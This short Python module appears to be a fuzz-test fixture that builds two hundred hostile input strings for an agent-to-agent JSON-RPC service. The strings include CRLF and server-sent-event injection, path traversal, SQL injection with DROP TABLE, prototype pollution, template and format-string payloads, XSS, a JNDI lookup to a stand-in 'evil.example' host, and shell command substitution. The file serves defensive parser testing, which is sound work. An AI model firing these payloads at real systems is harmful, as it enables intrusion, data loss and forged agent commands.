"""Two hundred texts that mean something to somebody on the way: to a parser, a router, a shell, a database."""

from typing import Final

ATOMS: Final = (
    "\r\nX-Injected: yes\r\n\r\n",
    "\nX-Injected: yes",
    "\r",
    "\x00",
    "\x7f\x1b[31m",
    "/../../admin",
    "..",
    ".",
    "%2e%2e%2f",
    "%2f..%2fv1/keys",
    "?x=1&token=2",
    "#fragment",
    ";jsessionid=1",
    "\\..\\",
    "//evil.example/",
    "@evil.example",
    ":cancel",
    "\u2028data: {}\u2029",
    "\x85event: done\x85",
    "\n\nevent: done\ndata: {}\n\n",
    "data: [DONE]\n\n",
    "id: 999\nretry: 1\n",
    ": comment\n",
    "\\u000a\\u000d",
    '{"jsonrpc":"2.0","id":1,"method":"tasks/cancel","params":{"id":"x"}}',
    '"}],"role":"agent"}',
    '","__proto__":{"admin":true},"x":"',
    "__proto__",
    "constructor.prototype",
    "' OR '1'='1",
    "'; DROP TABLE task; --",
    '" UNION SELECT * FROM key --',
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/x}",
    "%s%s%n%x",
    "{0.__class__.__init__.__globals__}",
    "<script>alert(1)</script>",
    "\u202egnp.exe",
    "\ufeff\u200b\u2060",
    "$(touch /tmp/x)`id`|&",
)
AROUND: Final = ("{}", "a{}", "{}z", "a{}z{}", "{}{}")
PAYLOADS: Final = tuple(around.replace("{}", atom) for around in AROUND for atom in ATOMS)
# Names of the wire in other letters: no parser of ours may take one for the other.
CASES: Final = ("Method", "PARAMS", "Message", "TaskId", "taskid", "Skill", "Target_Agent_Id", "Id", "JsonRpc")
